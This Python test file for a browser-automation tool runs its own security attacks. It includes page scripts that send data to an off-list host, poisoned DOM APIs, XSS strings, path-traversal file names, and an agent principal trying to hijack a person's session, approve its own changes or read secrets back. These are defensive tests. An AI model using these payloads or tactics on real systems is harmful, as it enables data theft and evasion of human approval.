"""Attacks on browser automation (issue 15), on a real Chromium and real loopback pages, through a real
Workstation: identity (sessions, proposals, approvals, forged principals), the host allow-list (URL tricks,
redirects, page-initiated requests, schemes, downloads), files (upload jail, download names and sizes),
secrets (audit, runs, errors, the Playwright trace), hostile pages (lying DOM APIs, huge DOMs, endless
pagination, a page that never loads, a decoy for healing), data (YAML, ReDoS, NaN/inf, bytes), the widgets
(HTML injection) and faults (two threads, closing mid-replay, a killed Chromium).

A test that shows a defect is a strict xfail naming it (and is listed in the attack report); every other
test shows a defence that holds. The allow-list is the demo site's ``127.0.0.1:PORT``; ``localhost:PORT``
(the same server under another name) is the off-list host: any request the server sees with
``Host: localhost:PORT`` went past the guard (``site.requests`` records the Host header).
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import re
import signal
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from emergent.browser.demo import DemoSite, _page
from emergent.browser.guard import host_allowed
from emergent.browser.model import Action, ExtractionTemplate, FieldSpec, Pagination, Param, Script, Target
from emergent.errors import (
    ApprovalPending,
    EmergentError,
    PermissionDenied,
    PrincipalError,
    StateConflictError,
    TimeoutExceeded,
    ValidationError,
)

PASSWORD = "Zq7-attack-s3cret-VALUE"
Resp = tuple[int, dict[str, str], bytes]


def _html(title: str, body: str, head: str = "") -> Resp:
    return 200, {"Content-Type": "text/html; charset=utf-8"}, _page(title, body, head=head)


def _add_routes(site: DemoSite) -> None:
    """Pages of the attacks, as ``_r_<name>`` attributes of the site (the demo's route lookup)."""
    other = site.other
    hits: dict[str, int] = {}

    def counted(name: str) -> int:
        hits[name] = hits.get(name, 0) + 1
        return hits[name]

    site.hits = hits  # type: ignore[attr-defined]
    r: dict[str, Any] = {}
    # --- redirects -------------------------------------------------------------------------------------
    # a Location that Python's urlsplit reads as 127.0.0.1 but a WHATWG parser (Chromium, Node) as localhost
    r["bs_redirect"] = lambda q, b, h: (302, {"Location": f"{other}\\@{site.host}/popup-target",
                                              "Content-Type": "text/plain"}, b"moved")
    r["bs_page"] = lambda q, b, h: _html("bs", "<img id='im' src='/bs-redirect'><p>bs</p>")
    # a chain that is allowed when the guard checks it and goes off-list when the browser follows it
    r["flip"] = lambda q, b, h: (302, {"Location": "/flip2", "Content-Type": "text/plain"}, b"moved")

    def flip2(q: Any, b: Any, h: Any) -> Resp:
        if counted("flip2") == 1:
            return _html("flip2", "<h1>fine</h1>")
        return 302, {"Location": f"{other}/popup-target", "Content-Type": "text/plain"}, b"moved"

    r["flip2"] = flip2
    r["meta_out"] = lambda q, b, h: _html("meta", "<p>bye</p>",
                                          head=f"<meta http-equiv='refresh' content='0;url={other}/popup-target'>")
    r["js_out"] = lambda q, b, h: _html("js", f"<script>location.href='{other}/popup-target'</script>")
    r["form_out"] = lambda q, b, h: _html("form", f"<form method='post' action='{other}/submit'>"
                                                  "<input name='email' value='x'><button type='submit'>Go out</button>"
                                                  "</form>")
    exfil = (
        f"<a id='ping' href='/index' ping='{other}/ping-a'>pinged</a>"
        f"<link rel='prefetch' href='{other}/prefetch'><link rel='preload' as='script' href='{other}/preload.js'>"
        f"<link rel='stylesheet' href='{other}/style.css'><iframe src='{other}/frame-inner'></iframe>"
        "<script>"
        f"fetch('{other}/fetch').catch(()=>{{}});"
        f"try {{ const x = new XMLHttpRequest(); x.open('GET', '{other}/xhr'); x.send(); }} catch (e) {{}}"
        f"try {{ navigator.sendBeacon('{other}/beacon', 'x'); }} catch (e) {{}}"
        f"try {{ new WebSocket('ws://localhost:{site.port}/ws'); }} catch (e) {{}}"
        f"try {{ new EventSource('{other}/sse'); }} catch (e) {{}}"
        "try { navigator.serviceWorker.register('/sw.js').catch(()=>{}); } catch (e) {}"
        f"try {{ new Worker(URL.createObjectURL(new Blob(['fetch(\"{other}/worker\")']))); }} catch (e) {{}}"
        f"new Image().src = '{other}/img';"
        "window.__done = true;"
        "</script><p id='ready'>ready</p>")
    r["exfil"] = lambda q, b, h: _html("exfil", exfil)
    r["sw_js"] = lambda q, b, h: (200, {"Content-Type": "text/javascript"},
                                   f"fetch('{other}/from-sw')".encode())
    r["open_out"] = lambda q, b, h: _html("open", f"<button id='o' onclick=\"window.open('{other}/popup-target')\">"
                                                  "open</button>")
    # --- downloads ---------------------------------------------------------------------------------------
    names = {"dotdot": "../../x.csv", "abs": "/etc/x.csv", "long": "a" * 5000 + ".csv",
             "ctrl": "UTF-8''ev%1Bil%0D%0Aname%07%00.csv", "star": "UTF-8''..%2F..%2Fstar.csv"}

    def dl(q: Any, b: Any, h: Any) -> Resp:
        kind = q.get("k", "dotdot")
        value = f"attachment; filename*={names[kind]}" if kind in ("star", "ctrl") else \
            f'attachment; filename="{names[kind]}"'
        return 200, {"Content-Type": "text/csv", "Content-Disposition": value}, b"a,b\n1,2\n"

    r["dl"] = dl
    r["dl_page"] = lambda q, b, h: _html("dl", f"<a id='off' href='{other}/export.csv' download>off</a>"
                                               "<a id='on' href='/export.csv' download>on</a>"
                                               "<a id='hop' href='/redirect-out' download>hop</a>")
    r["big"] = lambda q, b, h: (200, {"Content-Type": "application/octet-stream",
                                      "Content-Disposition": 'attachment; filename="big.bin"'}, b"\0" * (40 << 20))
    # --- hostile pages -----------------------------------------------------------------------------------
    rows = "".join(f"<tr class='r'><td class='n'>CMP-{i:03d}</td><td class='v'>{i}.5</td></tr>" for i in range(1, 6))
    liar = ("<script>"
            "Element.prototype.getAttribute = function () { return 'LIE'; };"
            "Element.prototype.querySelectorAll = function () { throw new Error('qsa poisoned'); };"
            "Document.prototype.querySelectorAll = function () { throw new Error('qsa poisoned'); };"
            "JSON.stringify = function () { return '\"LIE\"'; };"
            "Array.prototype.map = function () { return ['LIE']; };"
            "Array.from = function () { return ['LIE']; };"
            "Object.keys = function () { return ['LIE']; };"
            "String.prototype.trim = function () { return 'LIE'; };"
            "window.getComputedStyle = function () { throw new Error('gcs poisoned'); };"
            "</script>")
    # a page whose DOM APIs swap the two buttons' ids, test ids and texts for page scripts (Playwright's own
    # utility world, where actions resolve, sees the truth)
    swap = """<script>(() => {
const sw = (v) => v === 'go' ? 'del' : v === 'del' ? 'go' : v === 'Go now' ? 'Delete everything'
  : v === 'Delete everything' ? 'Go now' : v;
const g = Element.prototype.getAttribute;
Element.prototype.getAttribute = function (n) { return sw(g.call(this, n)); };
for (const [proto, prop] of [[Element.prototype, 'id'], [Node.prototype, 'textContent'],
                             [HTMLElement.prototype, 'innerText']]) {
  const d = Object.getOwnPropertyDescriptor(proto, prop);
  Object.defineProperty(proto, prop, {configurable: true, set(v) { d.set.call(this, v); }, get() {
    const v = d.get.call(this); return typeof v === 'string' && sw(v.trim()) !== v.trim() ? sw(v.trim()) : v; }});
}
const ds = Object.getOwnPropertyDescriptor(HTMLElement.prototype, 'dataset');
Object.defineProperty(HTMLElement.prototype, 'dataset', {configurable: true, get() {
  return new Proxy(ds.get.call(this), {get(t, k) { return sw(t[k]); }}); }});
})();</script>"""
    r["swap"] = lambda q, b, h: _html("swap", "<button id='go' data-testid='go' onclick=\"fetch('/signed?swap')\">"
                                              "Go now</button><button id='del' data-testid='del' "
                                              "onclick=\"fetch('/deleted?swap')\">Delete everything</button>",
                                      head=swap)
    r["liar"] = lambda q, b, h: _html("liar", f"<table><tbody>{rows}</tbody></table>"
                                              "<button id='go' data-testid='go'>Go now</button>", head=liar)
    r["huge"] = lambda q, b, h: _html("huge", "".join(f"<button class='b{i % 7}'>button {i}</button>"
                                                      for i in range(30_000)))

    def endless(q: Any, b: Any, h: Any) -> Resp:
        n = int(q.get("page", "1"))
        return _html(f"p{n}", f"<table><tr class='r'><td class='n'>row {n}</td></tr></table>"
                              f"<a class='next' href='/endless?page={n + 1}'>Next</a>")

    r["endless"] = endless

    def never(q: Any, b: Any, h: Any) -> Resp:
        time.sleep(6)
        return 200, {"Content-Type": "text/javascript"}, b""

    r["never_js"] = never
    r["never"] = lambda q, b, h: _html("never", "<p>loading</p><script src='/never.js'></script>")
    # healing decoy: the recorded page has 'Sign in'; the redesign a 'Sign in now' and a near-identical
    # destructive twin placed first
    r["decoy"] = lambda q, b, h: (
        _html("decoy", "<form onsubmit='return false'><button id='go' class='btn' data-testid='sign-in' "
                       "type='submit' onclick=\"fetch('/signed')\">Sign in</button></form>")
        if not site.hits.get("decoy_v2_on") else  # type: ignore[attr-defined]
        _html("decoy", "<form onsubmit='return false'>"
                       "<button id='x1' class='v2' type='submit' onclick=\"fetch('/deleted')\">Sign in now!</button>"
                       "<button id='x2' class='v2' type='submit' onclick=\"fetch('/signed')\">Sign in now</button>"
                       "</form>"))
    r["twin"] = lambda q, b, h: (
        _html("twin", "<button id='go' class='btn' data-testid='sign-in' onclick=\"fetch('/signed?twin')\">"
                      "Sign in</button>")
        if not site.hits.get("decoy_v2_on") else  # type: ignore[attr-defined]
        _html("twin", "<button class='v2' onclick=\"fetch('/deleted?twin')\">Sign in now</button>"
                      "<button class='v2' onclick=\"fetch('/signed?twin')\">Sign in now</button>"))
    r["signed"] = lambda q, b, h: (200, {"Content-Type": "text/plain"}, b"ok")
    r["deleted"] = lambda q, b, h: (200, {"Content-Type": "text/plain"}, b"gone")
    r["xss"] = lambda q, b, h: _html("<img src=x onerror=alert(1)>", "<button id='b'>&lt;b onmouseover=alert(2)&gt;"
                                     "<script>alert(3)</script>Evil</button>")
    r["weird"] = lambda q, b, h: (200, {"Content-Type": "text/html"},
                                  b"<table><tr class='r'><td class='n'>\xff\xfe caf\xe9</td><td class='v'>inf</td></tr>"
                                  b"<tr class='r'><td class='n'>b</td><td class='v'>-inf</td></tr>"
                                  b"<tr class='r'><td class='n'>c</td><td class='v'>1e999</td></tr>"
                                  b"<tr class='r'><td class='n'>d</td><td class='v'>NaN</td></tr></table>")
    r["redos"] = lambda q, b, h: _html("redos", "<table><tr class='r'><td class='n'>" + "a" * 25 + "!</td></tr></table>")
    r["echo"] = lambda q, b, h: _html("echo", "<form method='post' action='/submit' enctype='multipart/form-data'>"
                                              "<label for='q'>Search</label><input id='q' name='email'>"
                                              "<button type='submit'>Search</button></form>")
    for name, fn in r.items():
        setattr(site, "_r_" + name, fn)
    for dotted, method in (("export.csv", "_r_export_csv"), ("pixel.gif", "_r_pixel_gif"),
                           ("tracker.js", "_r_tracker_js"), ("sw.js", "_r_sw_js"), ("never.js", "_r_never_js")):
        setattr(site, "_r_" + dotted, getattr(site, method))


def off_list_hits(site: DemoSite, since: int = 0) -> list[str]:
    """Requests the server received under the off-list host name (each one went past the guard)."""
    return [r for r in site.requests[since:] if r.split(" ", 1)[1].startswith(f"localhost:{site.port}")]


@pytest.fixture(scope="module")
def site() -> Iterator[DemoSite]:
    with DemoSite() as s:
        _add_routes(s)
        yield s


def _open_ws(site: DemoSite, home: Path, **env: str) -> Any:
    from emergent import Workstation

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("EMERGENT_BROWSER__ALLOW_HOSTS", json.dumps([site.host]))
        mp.setenv("EMERGENT_BROWSER__SECRETS", json.dumps({"portal_password": PASSWORD}))
        mp.setenv("EMERGENT_BROWSER__TIMEOUT_MS", "2500")
        mp.setenv("EMERGENT_BROWSER__NAVIGATION_TIMEOUT_MS", "3000")
        mp.setenv("EMERGENT_BROWSER__TRACE", "false")
        for k, v in env.items():
            mp.setenv(k, v)
        return Workstation.open(home, embedder="hashing")


@pytest.fixture(scope="module")
def ws(site: DemoSite, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    w = _open_ws(site, tmp_path_factory.mktemp("attacks") / "ws")
    try:
        yield w
    finally:
        w.close()


@pytest.fixture(scope="module")
def human(ws: Any) -> Any:
    return ws.principal


@pytest.fixture(scope="module")
def agent(ws: Any) -> Any:
    return ws.principals.agent("mallory", created_by=ws.principal)


def login_script(site: DemoSite, name: str = "attack-login", first: str = "#email") -> Script:
    return Script(name=name, params=[Param(name="email", default="ada@example.org")], actions=[
        Action(kind="navigate", value=site.url("/login")),
        Action(kind="fill", target=Target(candidates=[Target.of(first).candidates[0],
                                                      Target.of("label=Email").candidates[0]]),
               value="${params.email}"),
        Action(kind="fill", target=Target.of("label=Password"), value="${secrets.portal_password}"),
        Action(kind="click", target=Target.of('role=button[name="Sign in"]'), submits=True),
        Action(kind="wait", target=Target.of("#who"), value="visible"),
    ])


def trail(ws: Any, kind: str | None = None) -> list[Any]:
    ws.audit.flush()
    return list(ws.audit.entries(kind=kind) if kind else ws.audit.entries())


def blocked_urls(ws: Any) -> list[str]:
    return [str(e.data.get("url")) for e in trail(ws, "browser.blocked")]


# ================================================================== identity
def test_attack_agent_uses_a_humans_session_id_through_the_api_and_every_tool(ws: Any, human: Any, agent: Any,
                                                                              site: Any) -> None:
    s = ws.browser.open(site.url("/login"), by=human)
    rule = ws.autonomy.add_rule(f"agent:{agent.id}", "browser.act", "allow", by=human)
    try:
        with pytest.raises(PermissionDenied):
            ws.browser.session(s.id, by=agent)
        with pytest.raises(PermissionDenied):
            ws.tools.call("browser.act", {"session": s.id, "action": "fill", "target": "label=Email",
                                          "value": "mallory@evil"}, principal=agent, confidence=0.99)
        ws.browser.save_template(ExtractionTemplate(name="who", rows="form", fields=[FieldSpec(name="f")]), by=human)
        with pytest.raises(PermissionDenied):  # a *read* tool pointed at the person's session
            ws.tools.call("browser.extract", {"template": "who", "session": s.id}, principal=agent)
        with pytest.raises(PermissionDenied):  # nor close it
            ws.browser.close_session(s.id, by=agent)
        assert s.run(lambda p: p.input_value("#email")) == ""
        assert all(e.actor != agent.key for e in trail(ws, "browser.action") if e.data.get("session") == s.id)
    finally:
        ws.autonomy.remove_rule(rule.id, by=human)
        s.close()


def test_attack_agent_accepts_its_own_healed_proposal(ws: Any, human: Any, agent: Any, site: Any) -> None:
    sc = login_script(site, "heal-me", first="#no-such-field")
    ws.browser.save_script(sc, by=human)
    res = ws.browser.replay("heal-me", by=agent)
    assert res.status == "completed" and res.proposed_version
    for verb in (ws.browser.accept, ws.browser.reject):
        with pytest.raises(PermissionDenied, match="only a person"):
            verb("script", "heal-me", res.proposed_version, by=agent)
    assert ws.browser.store.list("script", name="heal-me")[-1]["status"] == "proposed" or any(
        r["version"] == res.proposed_version and r["status"] == "proposed"
        for r in ws.browser.store.list("script", name="heal-me"))


def test_attack_a_duck_typed_principal_is_refused(ws: Any, human: Any, site: Any) -> None:
    class Fake:
        key, kind, id, is_human = human.key, "human", human.id, True

    s = ws.browser.open(by=human)
    try:
        for call in (lambda: ws.browser.open(site.url("/"), by=Fake()),
                     lambda: ws.browser.session(s.id, by=Fake()),
                     lambda: ws.browser.accept("script", "x", "1.0.0", by=Fake()),
                     lambda: ws.browser.replay("heal-me", by=Fake())):
            with pytest.raises(PrincipalError):
                call()
    finally:
        s.close()


def test_attack_a_hand_built_unsealed_principal_takes_over_a_persons_session_and_accepts(
        ws: Any, human: Any, agent: Any, site: Any) -> None:
    from emergent.principals import Principal

    forged = Principal("human", human.id)  # no seal: ws.principals.verify refuses it
    with pytest.raises(PrincipalError):
        ws.principals.verify(forged)
    s = ws.browser.open(site.url("/login"), by=human)
    try:
        with pytest.raises(PrincipalError):
            ws.browser.session(s.id, by=forged)
        sc = login_script(site, "forged-accept", first="#gone")
        ws.browser.save_script(sc, by=human)
        res = ws.browser.replay("forged-accept", by=agent)
        with pytest.raises(PrincipalError):
            ws.browser.accept("script", "forged-accept", res.proposed_version, by=forged)
    finally:
        s.close()


def test_attack_agent_replays_a_submitting_script_through_the_tool_without_approval(
        ws: Any, human: Any, agent: Any, site: Any) -> None:
    ws.browser.save_script(login_script(site, "agent-submit"), by=human)
    before = len(site.submissions)
    with pytest.raises(ApprovalPending):
        ws.tools.call("browser.replay", {"script": "agent-submit"}, principal=agent, wait=False, confidence=0.99)
    with pytest.raises(ApprovalPending):
        ws.tools.call("browser.act", {"session": "whatever", "action": "click", "target": "text=Sign in"},
                      principal=agent, wait=False, confidence=0.99)
    assert len(site.submissions) == before


def test_attack_agent_submits_a_form_through_the_read_only_extract_tool(ws: Any, agent: Any, site: Any) -> None:
    tpl = ExtractionTemplate(name="sneaky", url=site.url("/login"), rows="form#login-form",
                             fields=[FieldSpec(name="f", selector="label")],
                             pagination=Pagination(kind="next", next=Target.of('role=button[name="Sign in"]'),
                                                   max_pages=2, wait_ms=1000))
    before = len(site.submissions)
    with contextlib.suppress(EmergentError):  # refused, or the pagination stops: never a click that submits
        ws.tools.call("browser.extract", {"template": tpl.model_dump(mode="json")}, principal=agent)
    time.sleep(0.3)
    assert len(site.submissions) == before


def test_attack_agent_posts_a_form_through_browser_open_of_a_data_url(ws: Any, agent: Any, site: Any) -> None:
    page = (f"data:text/html,<form method='post' action='{site.url('/submit')}' enctype='multipart/form-data'>"
            "<input name='email' value='pwned-by-data-url'></form><script>document.forms[0].submit()</script>")
    before = len(site.submissions)
    with contextlib.suppress(EmergentError):
        out = ws.tools.call("browser.open", {"url": page}, principal=agent)
        ws.browser.session(out["session"], by=agent).close()
    time.sleep(0.3)
    assert not any(x.get("email") == "pwned-by-data-url" for x in site.submissions[before:])


def test_attack_agent_supersedes_a_persons_script_with_an_active_version(ws: Any, human: Any, agent: Any,
                                                                          site: Any) -> None:
    ws.browser.save_script(login_script(site, "persons-script"), by=human)
    evil = login_script(site, "persons-script").model_copy(update={"version": "1.1.0"})
    with contextlib.suppress(PermissionDenied):
        ws.browser.save_script(evil, by=agent)
    assert ws.browser.script("persons-script").version == "1.0.0"


def test_attack_agent_replays_a_rejected_healed_version_by_naming_it(ws: Any, human: Any, agent: Any,
                                                                      site: Any) -> None:
    ws.browser.save_script(login_script(site, "reject-me", first="#gone-field"), by=human)
    res = ws.browser.replay("reject-me", by=human)
    assert res.proposed_version
    ws.browser.reject("script", "reject-me", res.proposed_version, by=human)
    with pytest.raises(EmergentError):
        ws.browser.replay("reject-me", version=res.proposed_version, by=agent)


def test_attack_a_parameter_value_smuggles_a_secret_reference_into_a_plain_field(ws: Any, human: Any,
                                                                                   site: Any) -> None:
    sc = Script(name="echo", params=[Param(name="q")], actions=[
        Action(kind="navigate", value=site.url("/echo")),
        Action(kind="fill", target=Target.of("label=Search"), value="${params.q}"),
        Action(kind="click", target=Target.of('role=button[name="Search"]'), submits=True),
        Action(kind="wait", target=Target.of("#who"), value="visible")])
    ws.browser.save_script(sc, by=human)
    before = len(site.submissions)
    res = ws.browser.replay("echo", {"q": "${secrets.portal_password}"}, by=human)
    assert res.status == "completed"
    assert PASSWORD not in json.dumps(site.submissions[before:])


def test_attack_agent_fills_a_secret_into_an_echoing_field_and_reads_it_back(ws: Any, human: Any, agent: Any,
                                                                              site: Any) -> None:
    rule = ws.autonomy.add_rule(f"agent:{agent.id}", "browser.act", "allow", by=human)  # a person let it act
    sid = ws.tools.call("browser.open", {"url": site.url("/echo")}, principal=agent)["session"]
    try:
        got: Any = None
        with contextlib.suppress(EmergentError):
            ws.tools.call("browser.act", {"session": sid, "action": "fill", "target": "label=Search",
                                          "value": "${secrets.portal_password}"}, principal=agent, confidence=0.99)
            ws.tools.call("browser.act", {"session": sid, "action": "click", "target": 'role=button[name="Search"]'},
                          principal=agent, confidence=0.99)
            tpl = ExtractionTemplate(name="echoed", rows="#who", fields=[FieldSpec(name="t")])
            got = ws.tools.call("browser.extract", {"template": tpl.model_dump(mode="json"), "session": sid},
                                principal=agent)
        assert PASSWORD not in json.dumps(got)
    finally:
        ws.autonomy.remove_rule(rule.id, by=human)
        with contextlib.suppress(EmergentError):
            ws.browser.session(sid, by=agent).close()


def test_attack_a_page_echoing_a_secret_a_person_typed_does_not_hand_it_to_whoever_reads_the_page(
        ws: Any, human: Any, agent: Any, site: Any) -> None:
    s = ws.browser.open(site.url("/echo"), by=human)
    try:
        s.fill("label=Search", "${secrets.portal_password}")  # a person may put a secret anywhere
        s.click('role=button[name="Search"]')
        s.wait("#who")
        tpl = ExtractionTemplate(name="echoed-by-person", rows="#who", fields=[FieldSpec(name="t")])
        shown = s.extract(tpl).to_dicts()
    finally:
        s.close()
    assert PASSWORD not in json.dumps(shown) and "(secret portal_password)" in json.dumps(shown)


# ================================================================== the allow-list
def test_attack_url_spellings_of_an_off_list_host_are_refused(site: Any) -> None:
    allow = [site.host]
    p = site.port
    refused = [f"http://{site.host}@localhost:{p}/", f"http://localhost.:{p}/", f"http://LOCALHOST:{p}/",
               f"http://2130706433:{p}/", f"http://0x7f000001:{p}/", f"http://0177.0.0.1:{p}/", f"http://127.1:{p}/",
               f"http://[::1]:{p}/", f"http://[::ffff:127.0.0.1]:{p}/", f"http://127.0.0.1:{p + 1}/",
               f"http://127.0.0.1.:{p + 1}/", f"http://lоcalhost:{p}/",  # Cyrillic o
               "file:///etc/passwd", f"view-source:http://{site.host}/", "chrome://version", "javascript:alert(1)",
               f"ftp://{site.host}/", f"ws://localhost:{p}/"]
    assert [u for u in refused if host_allowed(u, allow)] == []
    assert host_allowed(f"HTTP://127.0.0.1:{p}/Login", allow) and host_allowed(f"http://127.0.0.1.:{p}/", allow)


def test_attack_a_backslash_authority_is_judged_like_a_browser_would(site: Any) -> None:
    assert not host_allowed(f"http://localhost:{site.port}\\@{site.host}/", [site.host])


def test_attack_a_backslash_redirect_does_not_reach_the_off_list_host(ws: Any, human: Any, site: Any) -> None:
    since = len(site.requests)
    s = ws.browser.open(by=human)
    try:
        with contextlib.suppress(PermissionDenied):
            s.goto(site.url("/bs-redirect"))
        s.goto(site.url("/bs-page"))
        s.run(lambda p: p.wait_for_timeout(300))
        s.downloads(wait_s=2)
    finally:
        s.close()
    assert off_list_hits(site, since) == []


def test_attack_a_redirect_chain_that_changes_after_the_guard_checked_it(ws: Any, human: Any, site: Any) -> None:
    site.hits.pop("flip2", None)
    since = len(site.requests)
    s = ws.browser.open(by=human)
    try:
        with contextlib.suppress(PermissionDenied):
            s.goto(site.url("/flip"))
        s.run(lambda p: p.wait_for_timeout(200))
    finally:
        s.close()
    assert off_list_hits(site, since) == []


@pytest.mark.parametrize("path", ["/redirect-out", "/meta-out", "/js-out", "/open-out", "/form-out"])
def test_attack_page_driven_navigations_off_the_list_are_blocked_and_audited(ws: Any, human: Any, site: Any,
                                                                            path: str) -> None:
    since = len(site.requests)
    n_blocked = len(trail(ws, "browser.blocked"))
    s = ws.browser.open(by=human)
    try:
        try:
            s.goto(site.url(path))
        except PermissionDenied:
            assert path == "/redirect-out"
        if path == "/open-out":
            s.click("#o")
        if path == "/form-out":
            s.click('role=button[name="Go out"]')
        s.run(lambda p: p.wait_for_timeout(400))
        s.downloads(wait_s=2)
        assert all(p.url.startswith((site.base, "about:blank", "chrome-error:")) for p in s.pages)
    finally:
        s.close()
    assert off_list_hits(site, since) == []
    assert len(trail(ws, "browser.blocked")) > n_blocked


def test_attack_page_javascript_exfiltration_channels_are_blocked_and_audited(ws: Any, human: Any,
                                                                             site: Any) -> None:
    since = len(site.requests)
    s = ws.browser.open(site.url("/exfil"), by=human)
    try:
        s.click("#ping")  # <a ping>
        s.run(lambda p: p.wait_for_timeout(800))
        s.downloads(wait_s=2)
    finally:
        s.close()
    assert off_list_hits(site, since) == []
    audited = " ".join(blocked_urls(ws))
    for leak in ("/fetch", "/xhr", "/img", "/style.css", "/frame-inner"):
        assert f"localhost:{site.port}{leak}" in audited, leak


@pytest.mark.parametrize("url", ["file:///etc/passwd", "view-source:http://127.0.0.1/", "chrome://version",
                                 "javascript:alert(1)", "blob:http://localhost/x", "about:config"])
def test_attack_non_http_schemes_cannot_be_opened(ws: Any, human: Any, url: str) -> None:
    s = ws.browser.open(by=human)
    try:
        with pytest.raises((ValidationError, PermissionDenied)):
            s.goto(url)
        assert s.page.url == "about:blank"
    finally:
        s.close()


def test_attack_a_data_url_page_cannot_reach_off_list_hosts(ws: Any, human: Any, site: Any) -> None:
    since = len(site.requests)
    s = ws.browser.open(by=human)
    try:
        page = f"<img src='{site.other}/from-data'><script>fetch('{site.other}/from-data-fetch')</script>"
        with contextlib.suppress(PermissionDenied, ValidationError):
            s.goto("data:text/html," + page)
        s.run(lambda p: p.wait_for_timeout(400))
    finally:
        s.close()
    assert off_list_hits(site, since) == []


def test_attack_a_download_from_an_off_list_host_is_refused(ws: Any, human: Any, site: Any) -> None:
    since = len(site.requests)
    s = ws.browser.open(site.url("/dl-page"), by=human)
    try:
        s.click("#off")
        s.click("#hop")  # an allowed link whose redirect leaves the list
        s.click("#on")
        got = s.downloads(wait_s=3)
    finally:
        s.close()
    assert off_list_hits(site, since) == []
    assert [Path(g).name for g in got] == ["export.csv"]
    assert f"{site.other}/export.csv" in blocked_urls(ws)
    assert f"{site.other}/popup-target" in blocked_urls(ws)


# ================================================================== files
def test_attack_upload_paths_that_leave_the_files_directory(ws: Any, human: Any, site: Any,
                                                            tmp_path: Path) -> None:
    files = Path(ws.path) / "files"
    files.mkdir(exist_ok=True)
    outside = tmp_path / "outside.txt"
    outside.write_text("outside secret")
    (files / "evil-link").unlink(missing_ok=True)
    (files / "evil-link").symlink_to(outside)
    (files / "hard").unlink(missing_ok=True)
    os.link(outside, files / "hard")
    (files / "pipe").unlink(missing_ok=True)
    os.mkfifo(files / "pipe")
    before = len(site.uploads)
    s = ws.browser.open(site.url("/login"), by=human)
    try:
        for bad in ("../outside.txt", "/etc/passwd", str(outside), "evil-link", "hard", "pipe", "a/../../x",
                    "./x", "", "x\x00y"):
            t0 = time.monotonic()
            with pytest.raises(ValidationError):
                s.upload("label=Report", bad)
            assert time.monotonic() - t0 < 2, bad  # a FIFO must not hang the read
        assert s.run(lambda p: p.eval_on_selector("#report", "e => e.files.length")) == 0
    finally:
        s.close()
    assert len(site.uploads) == before


def test_attack_hostile_download_file_names_stay_in_the_sessions_folder(ws: Any, human: Any, site: Any) -> None:
    s = ws.browser.open(site.url("/"), by=human)
    try:
        for k in ("dotdot", "abs", "long", "ctrl", "star"):
            with pytest.raises(EmergentError):  # the attachment is taken, the navigation aborted
                s.goto(site.url(f"/dl?k={k}"))
        got = s.downloads(wait_s=3)
    finally:
        s.close()
    root = (Path(ws.path) / "files" / "downloads" / s.id).resolve()
    assert len(got) == 5
    for rel in got:
        p = (Path(ws.path) / "files" / rel).resolve()
        assert p.parent == root and p.is_file(), rel
        assert len(p.name) <= 128 and re.fullmatch(r"[A-Za-z0-9._-]+", p.name), p.name
        assert not p.name.startswith(".")


def test_attack_a_download_far_bigger_than_reasonable(ws: Any, human: Any, site: Any) -> None:
    s = ws.browser.open(site.url("/"), by=human)
    try:
        with pytest.raises(EmergentError):
            s.goto(site.url("/big"))
        got = s.downloads(wait_s=10)
    finally:
        s.close()
    assert got == []  # refused whole (not cut), and audited
    assert any(e.data.get("url") == site.url("/big") and "larger" in str(e.data.get("reason"))
               for e in trail(ws, "browser.blocked"))


# ================================================================== secrets
def test_attack_a_replayed_secret_stays_out_of_audit_run_result_and_errors(ws: Any, human: Any, site: Any) -> None:
    ws.browser.save_script(login_script(site, "secret-login"), by=human)
    res = ws.browser.replay("secret-login", by=human, trace=False)
    assert res.status == "completed"
    bad = Script(name="secret-into-div", actions=[
        Action(kind="navigate", value=site.url("/login")),
        Action(kind="fill", target=Target.of("h1"), value="${secrets.portal_password}", timeout_ms=800)])
    ws.browser.save_script(bad, by=human)
    failed = ws.browser.replay("secret-into-div", by=human, heal=False, trace=False)
    assert failed.status == "failed"
    stored = json.dumps([ws.browser.store.run(r["id"]) if hasattr(ws.browser.store, "run") else r
                         for r in ws.browser.runs()], default=str)
    everything = " ".join([res.model_dump_json(), failed.model_dump_json(), stored,
                           json.dumps([e.to_dict() for e in trail(ws)], default=str),
                           ws.browser.script("secret-login").to_yaml()])
    assert PASSWORD not in everything
    with pytest.raises(ValidationError, match="nope") as missing:
        ws.browser.replay(Script(name="nope-secret", actions=[
            Action(kind="navigate", value=site.url("/login")),
            Action(kind="fill", target=Target.of("label=Password"), value="${secrets.nope}")]), by=human)
    assert PASSWORD not in str(missing.value) + str(missing.value.hint)


def test_attack_the_replay_trace_zip_does_not_hold_the_secret(ws: Any, human: Any, site: Any) -> None:
    ws.browser.save_script(login_script(site, "traced-login"), by=human)
    res = ws.browser.replay("traced-login", by=human, trace=True)
    assert res.status == "completed" and res.trace
    path = Path(ws.path) / res.trace
    with zipfile.ZipFile(path) as z:
        blobs = {n: z.read(n) for n in z.namelist()}
    assert b'"method":"fill"' in blobs["trace.trace"]  # the fills are traced, the value scrubbed
    found = [n for n, d in blobs.items() if PASSWORD.encode() in d or base64.b64encode(PASSWORD.encode()) in d]
    assert found == []


def test_attack_the_cli_replay_output_does_not_show_the_secret(ws: Any, human: Any, site: Any,
                                                               capsys: pytest.CaptureFixture[str],
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    from emergent.cli import main

    ws.browser.save_script(login_script(site, "cli-login"), by=human)
    ws.browser.save_script(Script(name="cli-bad", actions=[
        Action(kind="navigate", value=site.url("/login")),
        Action(kind="fill", target=Target.of("h1"), value="${secrets.portal_password}", timeout_ms=500)]),
        by=human)
    monkeypatch.setenv("EMERGENT_HOME", str(ws.path))
    monkeypatch.setenv("EMERGENT_BROWSER__ALLOW_HOSTS", json.dumps([site.host]))
    monkeypatch.setenv("EMERGENT_BROWSER__SECRETS", json.dumps({"portal_password": PASSWORD}))
    monkeypatch.setenv("EMERGENT_BROWSER__TRACE", "false")
    monkeypatch.setenv("EMERGENT_EMBEDDER", "hashing")
    argv = sys.argv[:]
    out = ""
    for args in (["replay", "cli-bad", "--no-heal"], ["show", "cli-login"]):
        try:
            main(["browser", *args])
        except SystemExit:
            pass
        finally:
            sys.argv[:] = argv
        o, e = capsys.readouterr()
        out += o + e
    assert "cli-login" in out and PASSWORD not in out


def test_attack_recording_a_secret_typed_into_a_plain_field_and_a_password_typed_in_the_page(
